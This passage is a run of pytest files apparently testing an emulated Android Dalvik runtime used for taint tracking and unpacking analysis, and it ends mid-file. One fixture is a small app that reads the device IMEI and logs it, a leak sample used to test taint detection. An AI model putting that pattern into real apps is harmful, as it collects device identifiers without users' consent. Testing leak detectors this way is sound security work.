        assert runtime.call("Lt/Io;->probe(Ljava/lang/Object;)I", None) == 0

    def test_wide_values_span_pairs(self, runtime):
        smali = """
.class public Lt/Wide;
.super Ljava/lang/Object;
.method public static mix(J)J
    .registers 6
    const-wide v0, 1000000000000
    add-long v2, v0, p0
    return-wide v2
.end method
"""
        assert run_method(
            runtime, smali, "Lt/Wide;->mix(J)J", 5
        ) == 1000000000005


class TestVirtualDispatch:
    def test_override_wins(self, runtime):
        smali = """
.class public Lt/Base;
.super Ljava/lang/Object;
.method public <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method
.method public tag()I
    .registers 2
    const/4 v0, 1
    return v0
.end method
.method public static via(Lt/Base;)I
    .registers 2
    invoke-virtual {p0}, Lt/Base;->tag()I
    move-result v0
    return v0
.end method
"""
        smali2 = """
.class public Lt/Derived;
.super Lt/Base;
.method public <init>()V
    .registers 1
    invoke-direct {p0}, Lt/Base;-><init>()V
    return-void
.end method
.method public tag()I
    .registers 2
    const/4 v0, 2
    return v0
.end method
.method public static make()Lt/Derived;
    .registers 1
    new-instance v0, Lt/Derived;
    invoke-direct {v0}, Lt/Derived;-><init>()V
    return-object v0
.end method
"""
        from repro.dex import DexBuilder, assemble

        builder = DexBuilder()
        assemble(smali, builder)
        assemble(smali2, builder)
        runtime.install_apk(Apk("t.vd", "Lt/Base;", [builder.dex]))
        derived = runtime.call("Lt/Derived;->make()Lt/Derived;")
        assert runtime.call("Lt/Base;->via(Lt/Base;)I", derived) == 2

    def test_invoke_super(self, runtime):
        from repro.dex import DexBuilder, assemble

        builder = DexBuilder()
        assemble("""
.class public Lt/Sup;
.super Ljava/lang/Object;
.method public <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method
.method public tag()I
    .registers 2
    const/16 v0, 10
    return v0
.end method
""", builder)
        assemble("""
.class public Lt/Sub;
.super Lt/Sup;
.method public <init>()V
    .registers 1
    invoke-direct {p0}, Lt/Sup;-><init>()V
    return-void
.end method
.method public tag()I
    .registers 3
    invoke-super {p0}, Lt/Sup;->tag()I
    move-result v0
    add-int/lit8 v0, v0, 1
    return v0
.end method
.method public static demo()I
    .registers 2
    new-instance v0, Lt/Sub;
    invoke-direct {v0}, Lt/Sub;-><init>()V
    invoke-virtual {v0}, Lt/Sub;->tag()I
    move-result v1
    return v1
.end method
""", builder)
        runtime.install_apk(Apk("t.sup", "Lt/Sup;", [builder.dex]))
        assert runtime.call("Lt/Sub;->demo()I") == 11
