"""Differential proof that the fast path changes nothing observable.

The same benchsuite app is driven twice — once on the fast path
(predecode cache + opcode-value dispatch + listener fan-out) and once on
the naive reference interpreter (decode every step, string-mnemonic
dispatch).  Instruction traces, collector stats, step counts and the
taint oracle must be identical.  All four self-modifying samples are in
the corpus: they are exactly the apps whose live-fetch semantics the
cache could conceivably break.
"""

import pytest

from repro.benchsuite import droidbench_samples
from repro.core import DexLegoCollector
from repro.runtime import AndroidRuntime, AppDriver
from repro.runtime.hooks import RuntimeListener
from repro.runtime.interpreter import Interpreter


class TraceListener(RuntimeListener):
    """Records every fetch: (method, pc, mnemonic, operands)."""

    def __init__(self) -> None:
        self.trace: list[tuple] = []

    def on_instruction(self, frame, dex_pc, ins) -> None:
        self.trace.append(
            (frame.method.ref.signature, dex_pc, ins.name, ins.operands)
        )


def _differential_corpus():
    """Every self-modifying sample plus one representative per category."""
    samples = droidbench_samples()
    picked, seen_categories = [], set()
    for sample in samples:
        if sample.category == "selfmod":
            picked.append(sample)
        elif sample.category not in seen_categories:
            seen_categories.add(sample.category)
            picked.append(sample)
    return picked


def _drive(sample, fast_path: bool):
    runtime = AndroidRuntime(device=sample.device, max_steps=3_000_000)
    runtime.interpreter = Interpreter(runtime, fast_path=fast_path)
    tracer = TraceListener()
    collector = DexLegoCollector()
    runtime.add_listener(tracer)
    runtime.add_listener(collector)
    report = AppDriver(runtime, sample.build_apk()).run_standard_session()
    leaks = {
        (event.sink_signature, tag)
        for event in runtime.observed_leaks()
        for tag in event.provenance
    }
    return {
        "trace": tracer.trace,
        "stats": collector.stats(),
        "steps": runtime.steps,
        "leaks": leaks,
        "crashed": report.crashed,
    }


@pytest.mark.parametrize("sample", _differential_corpus(), ids=lambda s: s.name)
def test_fast_path_identical_to_reference(sample):
    fast = _drive(sample, fast_path=True)
    reference = _drive(sample, fast_path=False)
    assert fast["trace"] == reference["trace"]
    assert fast["stats"] == reference["stats"]
    assert fast["steps"] == reference["steps"]
    assert fast["leaks"] == reference["leaks"]
    assert fast["crashed"] == reference["crashed"]


def test_corpus_includes_all_selfmod_samples():
    corpus = _differential_corpus()
    assert sum(1 for s in corpus if s.category == "selfmod") == 4
