"""Framework intrinsics: strings, builders, collections, android APIs."""

import pytest

from repro.runtime import AndroidRuntime, Apk, EMULATOR, TABLET, VmString
from repro.runtime.exceptions import VmThrow

from tests.conftest import run_method


class TestStringIntrinsics:
    def test_equals_and_length(self, runtime):
        smali = """
.class public Lt/Str;
.super Ljava/lang/Object;
.method public static f(Ljava/lang/String;)I
    .registers 4
    const-string v0, "hello"
    invoke-virtual {v0, p0}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v1
    if-eqz v1, :no
    invoke-virtual {v0}, Ljava/lang/String;->length()I
    move-result v2
    return v2
    :no
    const/4 v2, -1
    return v2
.end method
"""
        assert run_method(runtime, smali, "Lt/Str;->f(Ljava/lang/String;)I",
                          VmString("hello")) == 5
        assert runtime.call("Lt/Str;->f(Ljava/lang/String;)I",
                            VmString("nope")) == -1

    def test_concat_preserves_provenance(self, runtime):
        tainted = VmString("secret", ("imei",))
        smali = """
.class public Lt/Cat;
.super Ljava/lang/Object;
.method public static f(Ljava/lang/String;)Ljava/lang/String;
    .registers 3
    const-string v0, "prefix:"
    invoke-virtual {v0, p0}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    return-object v1
.end method
"""
        result = run_method(
            runtime, smali, "Lt/Cat;->f(Ljava/lang/String;)Ljava/lang/String;",
            tainted,
        )
        assert result.value == "prefix:secret"
        assert "imei" in result.provenance

    def test_stringbuilder_chain(self, runtime):
        smali = """
.class public Lt/Sb;
.super Ljava/lang/Object;
.method public static f(I)Ljava/lang/String;
    .registers 5
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    const-string v1, "n="
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0, p0}, Ljava/lang/StringBuilder;->append(I)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v2
    return-object v2
.end method
"""
        result = run_method(runtime, smali, "Lt/Sb;->f(I)Ljava/lang/String;", 42)
        assert result.value == "n=42"

    def test_parse_int_and_format_error(self, runtime):
        smali = """
.class public Lt/Pi;
.super Ljava/lang/Object;
.method public static f(Ljava/lang/String;)I
    .registers 3
    :s
    invoke-static {p0}, Ljava/lang/Integer;->parseInt(Ljava/lang/String;)I
    move-result v0
    :e
    return v0
    :h
    const/4 v0, -1
    return v0
    .catch Ljava/lang/NumberFormatException; {:s .. :e} :h
.end method
"""
        assert run_method(runtime, smali, "Lt/Pi;->f(Ljava/lang/String;)I",
                          VmString("123")) == 123
        assert runtime.call("Lt/Pi;->f(Ljava/lang/String;)I",
                            VmString("xyz")) == -1

    def test_string_hashcode_matches_java(self, runtime):
        smali = """
.class public Lt/Hc;
.super Ljava/lang/Object;
.method public static f()I
    .registers 2
    const-string v0, "Abc"
    invoke-virtual {v0}, Ljava/lang/String;->hashCode()I
    move-result v1
    return v1
.end method
"""
        # Java: "Abc".hashCode() == 65*31*31 + 98*31 + 99
        assert run_method(runtime, smali, "Lt/Hc;->f()I") == (
            65 * 31 * 31 + 98 * 31 + 99
        )


class TestCollections:
    def test_arraylist_and_hashmap(self, runtime):
        smali = """
.class public Lt/Coll;
.super Ljava/lang/Object;
.method public static f()I
    .registers 6
    new-instance v0, Ljava/util/ArrayList;
    invoke-direct {v0}, Ljava/util/ArrayList;-><init>()V
    const-string v1, "a"
    invoke-virtual {v0, v1}, Ljava/util/ArrayList;->add(Ljava/lang/Object;)Z
    const-string v1, "b"
    invoke-virtual {v0, v1}, Ljava/util/ArrayList;->add(Ljava/lang/Object;)Z
    invoke-virtual {v0}, Ljava/util/ArrayList;->size()I
    move-result v2
    new-instance v3, Ljava/util/HashMap;
    invoke-direct {v3}, Ljava/util/HashMap;-><init>()V
    const-string v1, "k"
    const-string v4, "val"
    invoke-virtual {v3, v1, v4}, Ljava/util/HashMap;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    invoke-virtual {v3}, Ljava/util/HashMap;->size()I
    move-result v5
    add-int v2, v2, v5
    return v2
.end method
"""
        assert run_method(runtime, smali, "Lt/Coll;->f()I") == 3


class TestAndroidApis:
    def _leaky_apk(self) -> Apk:
        from repro.dex import assemble

        text = """
.class public Lt/App;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Lt/App;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v1
    const-string v0, "T"
    invoke-static {v0, v1}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method
"""
        return Apk("t.app", "Lt/App;", [assemble(text)])

    def test_source_taints_and_sink_records(self):
        from repro.runtime import AppDriver

        runtime = AndroidRuntime()
        AppDriver(runtime, self._leaky_apk()).launch()
        assert len(runtime.source_log) == 1
        assert runtime.source_log[0].tag == "imei"
        leaks = runtime.observed_leaks()
        assert len(leaks) == 1
        assert "imei" in leaks[0].provenance

    def test_device_profile_feeds_sources(self):
        from repro.runtime import AppDriver

        runtime = AndroidRuntime(device=EMULATOR)
        AppDriver(runtime, self._leaky_apk()).launch()
        assert EMULATOR.imei in runtime.sink_log[0].argument_repr

    def test_build_fields_reflect_device(self, runtime):
        smali = """
.class public Lt/Bl;
.super Ljava/lang/Object;
.method public static f()Ljava/lang/String;
    .registers 2
    sget-object v0, Landroid/os/Build;->HARDWARE:Ljava/lang/String;
    return-object v0
.end method
"""
        result = run_method(runtime, smali, "Lt/Bl;->f()Ljava/lang/String;")
        assert result.value == "bullhead"  # NEXUS_5X default

    def test_tablet_profile(self):
        runtime = AndroidRuntime(device=TABLET)
        smali = """
.class public Lt/Tb;
.super Ljava/lang/Object;
.method public static f()Ljava/lang/String;
    .registers 2
    sget-object v0, Landroid/os/Build;->HARDWARE:Ljava/lang/String;
    return-object v0
.end method
"""
        assert run_method(
            runtime, smali, "Lt/Tb;->f()Ljava/lang/String;"
        ).value == "dragon"

    def test_file_roundtrip_drops_provenance(self, runtime):
        smali = """
.class public Lt/Fs;
.super Ljava/lang/Object;
.method public static f(Ljava/lang/String;)[B
    .registers 6
    invoke-virtual {p0}, Ljava/lang/String;->getBytes()[B
    move-result-object v0
    new-instance v1, Ljava/io/FileOutputStream;
    const-string v2, "/sdcard/t.bin"
    invoke-direct {v1, v2}, Ljava/io/FileOutputStream;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1, v0}, Ljava/io/FileOutputStream;->write([B)V
    new-instance v3, Ljava/io/FileInputStream;
    invoke-direct {v3, v2}, Ljava/io/FileInputStream;-><init>(Ljava/lang/String;)V
    const/16 v4, 32
    new-array v4, v4, [B
    invoke-virtual {v3, v4}, Ljava/io/FileInputStream;->read([B)I
    return-object v4
.end method
"""
        tainted = VmString("top-secret", ("imei",))
        result = run_method(runtime, smali, "Lt/Fs;->f(Ljava/lang/String;)[B",
                            tainted)
        # Bytes made it through the filesystem...
        text = bytes(b & 0xFF for b in result.elements[:10]).decode()
        assert text == "top-secret"
        # ...but provenance did not (the PrivateDataLeak3 mechanism).
        assert not result.provenance

    def test_missing_file_throws(self, runtime):
        smali = """
.class public Lt/Nf;
.super Ljava/lang/Object;
.method public static f()V
    .registers 3
    new-instance v0, Ljava/io/FileInputStream;
    const-string v1, "/no/such/file"
    invoke-direct {v0, v1}, Ljava/io/FileInputStream;-><init>(Ljava/lang/String;)V
    return-void
.end method
"""
        with pytest.raises(VmThrow) as info:
            run_method(runtime, smali, "Lt/Nf;->f()V")
        assert "FileNotFound" in str(info.value)


class TestReflectionApis:
    def test_forname_getmethod_invoke(self, runtime):
        smali = """
.class public Lt/Ref;
.super Ljava/lang/Object;
.method public static target(Ljava/lang/String;)Ljava/lang/String;
    .registers 3
    const-string v0, "got:"
    invoke-virtual {v0, p0}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    return-object v1
.end method

.method public static f()Ljava/lang/String;
    .registers 8
    const-string v0, "t.Ref"
    invoke-static {v0}, Ljava/lang/Class;->forName(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v1
    const-string v2, "target"
    invoke-virtual {v1, v2}, Ljava/lang/Class;->getMethod(Ljava/lang/String;)Ljava/lang/reflect/Method;
    move-result-object v3
    const/4 v4, 1
    new-array v5, v4, [Ljava/lang/Object;
    const/4 v4, 0
    const-string v6, "ping"
    aput-object v6, v5, v4
    const/4 v6, 0
    invoke-virtual {v3, v6, v5}, Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v7
    check-cast v7, Ljava/lang/String;
    return-object v7
.end method
"""
        result = run_method(runtime, smali, "Lt/Ref;->f()Ljava/lang/String;")
        assert result.value == "got:ping"

    def test_forname_missing_class_throws(self, runtime):
        smali = """
.class public Lt/Miss;
.super Ljava/lang/Object;
.method public static f()V
    .registers 2
    const-string v0, "no.such.Klass"
    invoke-static {v0}, Ljava/lang/Class;->forName(Ljava/lang/String;)Ljava/lang/Class;
    return-void
.end method
"""
        with pytest.raises(VmThrow) as info:
            run_method(runtime, smali, "Lt/Miss;->f()V")
        assert "ClassNotFound" in str(info.value)

    def test_reflective_hook_fires(self, runtime):
        from repro.runtime.hooks import RuntimeListener

        seen = []

        class Spy(RuntimeListener):
            def on_reflective_call(self, frame, target, receiver, args):
                seen.append(target.ref.signature)

        runtime.add_listener(Spy())
        self.test_forname_getmethod_invoke(runtime)
        assert seen == ["Lt/Ref;->target(Ljava/lang/String;)Ljava/lang/String;"]
