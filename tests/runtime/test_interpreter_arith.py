"""Arithmetic semantics: Java int/long wrapping, division, shifts."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.runtime import AndroidRuntime, Apk
from repro.dex import DexBuilder
from repro.runtime.exceptions import VmThrow

_I32 = st.integers(-(2**31), 2**31 - 1)
_I64 = st.integers(-(2**63), 2**63 - 1)


def _binop_runtime(op_name: str, wide: bool = False):
    """Build a runtime exposing static `op(XX)X` for one binop."""
    builder = DexBuilder()
    cls = builder.add_class("Lt/Arith;")
    if wide:
        mb = cls.method("op", "J", ("J", "J"), access=0x9, locals_count=2)
        mb.raw(op_name, 0, mb.p(0), mb.p(2))
        mb.ret_wide(0)
    else:
        mb = cls.method("op", "I", ("I", "I"), access=0x9, locals_count=2)
        mb.raw(op_name, 0, mb.p(0), mb.p(1))
        mb.ret(0)
    mb.build()
    runtime = AndroidRuntime()
    runtime.install_apk(Apk("t.arith", "Lt/Arith;", [builder.build()]))
    return runtime


def _wrap32(value: int) -> int:
    value &= 0xFFFFFFFF
    return value - 2**32 if value >= 2**31 else value


def _wrap64(value: int) -> int:
    value &= 2**64 - 1
    return value - 2**64 if value >= 2**63 else value


class TestIntArithmetic:
    @given(_I32, _I32)
    def test_add_wraps(self, a, b):
        runtime = _binop_runtime("add-int")
        sig = "Lt/Arith;->op(II)I"
        assert runtime.call(sig, a, b) == _wrap32(a + b)

    @given(_I32, _I32)
    def test_mul_wraps(self, a, b):
        runtime = _binop_runtime("mul-int")
        assert runtime.call("Lt/Arith;->op(II)I", a, b) == _wrap32(a * b)

    @given(_I32, _I32.filter(lambda v: v != 0))
    def test_div_truncates_toward_zero(self, a, b):
        runtime = _binop_runtime("div-int")
        expected = _wrap32(int(a / b)) if b != 0 else None
        assert runtime.call("Lt/Arith;->op(II)I", a, b) == expected

    @given(_I32, _I32.filter(lambda v: v != 0))
    def test_rem_sign_follows_dividend(self, a, b):
        runtime = _binop_runtime("rem-int")
        import math
        expected = _wrap32(a - int(a / b) * b)
        assert runtime.call("Lt/Arith;->op(II)I", a, b) == expected

    def test_div_by_zero_throws(self):
        runtime = _binop_runtime("div-int")
        with pytest.raises(VmThrow) as info:
            runtime.call("Lt/Arith;->op(II)I", 1, 0)
        assert "ArithmeticException" in str(info.value)

    def test_int_min_div_minus_one(self):
        runtime = _binop_runtime("div-int")
        assert runtime.call("Lt/Arith;->op(II)I", -(2**31), -1) == -(2**31)

    @given(_I32, st.integers(0, 63))
    def test_shl_masks_shift(self, a, shift):
        runtime = _binop_runtime("shl-int")
        assert runtime.call("Lt/Arith;->op(II)I", a, shift) == _wrap32(
            a << (shift & 31)
        )

    @given(_I32, st.integers(0, 63))
    def test_ushr_zero_extends(self, a, shift):
        runtime = _binop_runtime("ushr-int")
        assert runtime.call("Lt/Arith;->op(II)I", a, shift) == _wrap32(
            (a & 0xFFFFFFFF) >> (shift & 31)
        )

    @given(_I32, _I32)
    def test_xor(self, a, b):
        runtime = _binop_runtime("xor-int")
        assert runtime.call("Lt/Arith;->op(II)I", a, b) == _wrap32(a ^ b)


class TestLongArithmetic:
    @given(_I64, _I64)
    def test_add_long_wraps(self, a, b):
        runtime = _binop_runtime("add-long", wide=True)
        assert runtime.call("Lt/Arith;->op(JJ)J", a, b) == _wrap64(a + b)

    @given(_I64, st.integers(0, 127))
    def test_shl_long_masks_to_63(self, a, shift):
        runtime = _binop_runtime("shl-long", wide=True)
        # second operand is an int register in real dalvik; our op reads
        # the low word of the second pair, which holds the full value.
        assert runtime.call("Lt/Arith;->op(JJ)J", a, shift) == _wrap64(
            a << (shift & 63)
        )

    def test_cmp_long(self):
        builder = DexBuilder()
        cls = builder.add_class("Lt/Cmp;")
        mb = cls.method("c", "I", ("J", "J"), access=0x9, locals_count=1)
        mb.raw("cmp-long", 0, mb.p(0), mb.p(2))
        mb.ret(0)
        mb.build()
        runtime = AndroidRuntime()
        runtime.install_apk(Apk("t.cmp", "Lt/Cmp;", [builder.build()]))
        assert runtime.call("Lt/Cmp;->c(JJ)I", 1, 2) == -1
        assert runtime.call("Lt/Cmp;->c(JJ)I", 2, 2) == 0
        assert runtime.call("Lt/Cmp;->c(JJ)I", 3, 2) == 1


class TestConversions:
    def _unary_runtime(self, op: str, in_desc: str, out_desc: str):
        builder = DexBuilder()
        cls = builder.add_class("Lt/Conv;")
        mb = cls.method("c", out_desc, (in_desc,), access=0x9, locals_count=2)
        mb.raw(op, 0, mb.p(0))
        if out_desc in ("J", "D"):
            mb.ret_wide(0)
        else:
            mb.ret(0)
        mb.build()
        runtime = AndroidRuntime()
        runtime.install_apk(Apk("t.conv", "Lt/Conv;", [builder.build()]))
        return runtime

    def test_int_to_byte_sign_extends(self):
        runtime = self._unary_runtime("int-to-byte", "I", "I")
        assert runtime.call("Lt/Conv;->c(I)I", 0x80) == -128
        assert runtime.call("Lt/Conv;->c(I)I", 0x7F) == 127

    def test_int_to_char_zero_extends(self):
        runtime = self._unary_runtime("int-to-char", "I", "I")
        assert runtime.call("Lt/Conv;->c(I)I", -1) == 0xFFFF

    def test_int_to_short(self):
        runtime = self._unary_runtime("int-to-short", "I", "I")
        assert runtime.call("Lt/Conv;->c(I)I", 0x8000) == -32768

    def test_double_to_int_saturates(self):
        runtime = self._unary_runtime("double-to-int", "D", "I")
        assert runtime.call("Lt/Conv;->c(D)I", 1e30) == 2**31 - 1
        assert runtime.call("Lt/Conv;->c(D)I", -1e30) == -(2**31)

    def test_nan_to_int_is_zero(self):
        runtime = self._unary_runtime("double-to-int", "D", "I")
        assert runtime.call("Lt/Conv;->c(D)I", float("nan")) == 0

    def test_neg_int_min_wraps(self):
        runtime = self._unary_runtime("neg-int", "I", "I")
        assert runtime.call("Lt/Conv;->c(I)I", -(2**31)) == -(2**31)


class TestFloatSemantics:
    def test_float_div_by_zero_is_infinite(self):
        builder = DexBuilder()
        cls = builder.add_class("Lt/F;")
        mb = cls.method("d", "D", ("D", "D"), access=0x9, locals_count=2)
        mb.raw("div-double", 0, mb.p(0), mb.p(2))
        mb.ret_wide(0)
        mb.build()
        runtime = AndroidRuntime()
        runtime.install_apk(Apk("t.f", "Lt/F;", [builder.build()]))
        assert runtime.call("Lt/F;->d(DD)D", 1.0, 0.0) == float("inf")
        import math
        assert math.isnan(runtime.call("Lt/F;->d(DD)D", 0.0, 0.0))

    def test_cmpl_cmpg_nan_bias(self):
        builder = DexBuilder()
        cls = builder.add_class("Lt/N;")
        for name, op in (("l", "cmpl-double"), ("g", "cmpg-double")):
            mb = cls.method(name, "I", ("D", "D"), access=0x9, locals_count=1)
            mb.raw(op, 0, mb.p(0), mb.p(2))
            mb.ret(0)
            mb.build()
        runtime = AndroidRuntime()
        runtime.install_apk(Apk("t.n", "Lt/N;", [builder.build()]))
        nan = float("nan")
        assert runtime.call("Lt/N;->l(DD)I", nan, 1.0) == -1
        assert runtime.call("Lt/N;->g(DD)I", nan, 1.0) == 1
        assert runtime.call("Lt/N;->l(DD)I", 2.0, 1.0) == 1
