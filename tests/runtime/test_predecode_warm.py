"""Warm predecode state across the process boundary.

The shared decode store is process memory; :mod:`repro.runtime.predecode`
serialises it so worker processes and resumed sessions start warm.  The
contract under test: an exported index adopted by a *different*
hydration of the same APK yields the same execution; stale entries —
recorded against bytes that since changed — are rejected by raw-byte
compare; and foreign format versions are refused loudly, including when
the index arrives inside a collection archive.
"""

import pytest

from repro.core import (
    CollectionArchive,
    CollectStage,
    DexLegoCollector,
    RevealConfig,
    resume_exploration,
)
from repro.core.collection_files import PREDECODE_INDEX_FILE
from repro.core.replay import ReplaySpec, execute_replay
from repro.dex import assemble
from repro.runtime import Apk
from repro.runtime.predecode import (
    PREDECODE_INDEX_VERSION,
    export_predecode_index,
    validate_predecode_index,
    warm_predecode,
)

SIG = "Lw/Warm;->onCreate(Landroid/os/Bundle;)V"


def _apk(package: str = "w.warm") -> Apk:
    text = """
.class public Lw/Warm;
.super Landroid/app/Activity;
.field public static a:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 0
    :loop
    add-int/lit8 v0, v0, 1
    const/4 v1, 3
    if-ne v0, v1, :loop
    sget v2, Lw/Warm;->a:I
    add-int/lit8 v2, v2, 1
    sput v2, Lw/Warm;->a:I
    return-void
.end method
"""
    return Apk(package, "Lw/Warm;", [assemble(text)])


def _run_once(apk: Apk) -> None:
    """One standard drive, populating the shared decode stores."""
    spec = ReplaySpec(apk.package, b"", collect=False)
    execute_replay(spec, apk=apk)


class TestExportWarmRoundTrip:
    def test_saved_by_one_process_loaded_by_another(self):
        # "Another process" in miniature: a second hydration from the
        # serialised bytes shares nothing in memory with the first.
        hot = _apk()
        _run_once(hot)
        index = export_predecode_index(hot.dex_files)
        assert index["version"] == PREDECODE_INDEX_VERSION
        assert any(m["signature"] == SIG for m in index["methods"])

        cold = Apk.from_bytes(hot.to_bytes())
        stores_before = [
            getattr(method.code.insns, "shared", {})
            for dex in cold.dex_files
            for _c, method, _r in dex.iter_methods() if method.code
        ]
        assert all(not s for s in stores_before)  # really cold
        adopted = warm_predecode(cold.dex_files, index)
        assert adopted == sum(len(m["entries"]) for m in index["methods"])
        # The warmed copy executes identically to a cold one.
        warmed_delta = execute_replay(
            ReplaySpec(cold.package, b""), apk=cold)
        cold_delta = execute_replay(
            ReplaySpec("w.ref", b""), apk=_apk("w.ref"))
        assert warmed_delta.trace == cold_delta.trace
        assert warmed_delta.steps == cold_delta.steps
        assert warmed_delta.collector == cold_delta.collector

    def test_survives_json_serialisation(self, tmp_path):
        import json

        hot = _apk("w.json")
        _run_once(hot)
        index = json.loads(json.dumps(export_predecode_index(hot.dex_files)))
        cold = Apk.from_bytes(hot.to_bytes())
        assert warm_predecode(cold.dex_files, index) > 0

    def test_warming_twice_adopts_nothing_new(self):
        hot = _apk("w.twice")
        _run_once(hot)
        index = export_predecode_index(hot.dex_files)
        cold = Apk.from_bytes(hot.to_bytes())
        assert warm_predecode(cold.dex_files, index) > 0
        assert warm_predecode(cold.dex_files, index) == 0


class TestStaleRejection:
    def test_stale_raw_bytes_rejected(self):
        hot = _apk("w.stale")
        _run_once(hot)
        index = export_predecode_index(hot.dex_files)
        # Corrupt one recorded decode: flip its raw units to bytes the
        # live code does not contain.  Generation metadata alone must
        # not rescue it — adoption is a raw-byte compare.
        method = next(m for m in index["methods"] if m["signature"] == SIG)
        pc, raw = method["entries"][0]
        method["entries"][0] = [pc, [0x3FFF for _ in raw]]
        cold = Apk.from_bytes(hot.to_bytes())
        adopted = warm_predecode(cold.dex_files, index)
        clean = sum(len(m["entries"]) for m in index["methods"]) - 1
        assert adopted == clean
        # The poisoned pc stayed cold in every store.
        for dex in cold.dex_files:
            for _c, m, ref in dex.iter_methods():
                if m.code is not None and ref.signature == SIG:
                    assert pc not in m.code.insns.shared

    def test_unknown_method_skipped(self):
        hot = _apk("w.ghost")
        _run_once(hot)
        index = export_predecode_index(hot.dex_files)
        index["methods"].append({
            "signature": "Lw/Ghost;->gone()V", "generation": 0,
            "entries": [[0, [14]]],
        })
        cold = Apk.from_bytes(hot.to_bytes())
        # No raise, ghost silently skipped, real entries adopted.
        assert warm_predecode(cold.dex_files, index) > 0


class TestVersionGuard:
    @pytest.mark.parametrize("version", [0, 2, 99, None, "1"])
    def test_foreign_version_refused(self, version):
        index = {"version": version, "methods": []}
        with pytest.raises(ValueError, match="predecode index version"):
            validate_predecode_index(index)
        with pytest.raises(ValueError, match="predecode index version"):
            warm_predecode(_apk("w.ver").dex_files, index)

    def test_archive_load_validates_eagerly(self, tmp_path):
        archive = CollectionArchive.from_collector(DexLegoCollector())
        archive.set_predecode_index({"version": 99, "methods": []})
        archive.save(str(tmp_path))
        with pytest.raises(ValueError, match="predecode index version"):
            CollectionArchive.load(str(tmp_path))


class TestArchiveCarriesWarmth:
    def _explore_config(self, tmp_path, **extra) -> RevealConfig:
        return RevealConfig(use_force_execution=True, force_iterations=6,
                            archive_dir=str(tmp_path), **extra)

    def test_collect_stage_exports_index(self, tmp_path):
        config = self._explore_config(tmp_path / "a")
        result = CollectStage(config).run(_apk("w.exp"))
        index = result.archive.predecode_index()
        assert index is not None
        assert any(m["signature"].startswith("Lw/Warm;")
                   for m in index["methods"])

    def test_index_survives_save_load(self, tmp_path):
        config = self._explore_config(tmp_path / "b")
        result = CollectStage(config).run(_apk("w.rt"))
        result.archive.save(str(tmp_path / "b"))
        again = CollectionArchive.load(str(tmp_path / "b"))
        assert again.predecode_index() == result.archive.predecode_index()
        assert PREDECODE_INDEX_FILE in again._payload

    def test_resume_under_process_backend(self, tmp_path):
        # Session one: explore with a hard path cap so the frontier
        # persists work; session two resumes it on the process backend,
        # warm-started from the archive's predecode index.
        from tests.core.test_determinism import _branchy_apk

        first = RevealConfig(use_force_execution=True, force_iterations=8,
                             max_paths=1,
                             archive_dir=str(tmp_path / "session1"))
        one = CollectStage(first).run(_branchy_apk("w.resume"))
        one.archive.save(str(tmp_path / "session1"))
        state = one.archive.exploration_state()
        assert state is not None and one.force_report.frontier_pending > 0

        resumed = resume_exploration(
            str(tmp_path / "session1"),
            _branchy_apk("w.resume"),
            config=RevealConfig(use_force_execution=True, force_iterations=8,
                                explore_workers=2,
                                explore_backend="process",
                                archive_dir=str(tmp_path / "session2")),
        )
        report = resumed.force_report
        assert report.resumed and report.backend == "process"
        # The resumed session finished the exploration the first one
        # was capped out of.
        assert report.frontier_pending == 0
        assert report.paths_executed >= 1

    def test_resume_results_match_serial_resume(self, tmp_path):
        from tests.core.test_determinism import _branchy_apk

        outcomes = {}
        for backend in ("serial", "process"):
            base = tmp_path / backend
            first = RevealConfig(use_force_execution=True,
                                 force_iterations=8, max_paths=1,
                                 archive_dir=str(base / "one"))
            one = CollectStage(first).run(_branchy_apk("w.eq"))
            one.archive.save(str(base / "one"))
            resumed = resume_exploration(
                str(base / "one"), _branchy_apk("w.eq"),
                config=RevealConfig(use_force_execution=True,
                                    force_iterations=8, explore_workers=2,
                                    explore_backend=backend,
                                    archive_dir=str(base / "two")),
            )
            report = resumed.force_report
            outcomes[backend] = {
                "order": [tuple(k) for k in report.exploration_order],
                "curve": list(report.coverage_curve),
                "covered": report.ucbs_covered,
                "runs": report.runs,
            }
        assert outcomes["process"] == outcomes["serial"]
