"""The interpreter's generation-tracked predecode cache.

Live-fetch semantics are the contract: a method that rewrites its own
code units mid-run must observe the new bytes on the very next fetch,
no matter what the cache held beforehand.
"""

from repro.dex import assemble
from repro.dex.instructions import Instruction
from repro.dex.opcodes import OPCODES
from repro.runtime import AndroidRuntime, Apk
from repro.runtime.interpreter import _DISPATCH, _HANDLERS, Interpreter

from tests.conftest import run_method

_LOOP = """
.class public Lt/Warm;
.super Ljava/lang/Object;
.method public static sum(I)I
    .registers 3
    const/4 v0, 0
    :head
    if-lez p0, :done
    add-int v0, v0, p0
    add-int/lit8 p0, p0, -1
    goto :head
    :done
    return v0
.end method
"""

# run() executes its first const twice (one goto round trip); between
# the two fetches a native patches that const in place.  pass 1 loads 0,
# pass 2 MUST load the patched 7 even though pc 1 is already cached.
_SELFPATCH = """
.class public Lt/P;
.super Ljava/lang/Object;
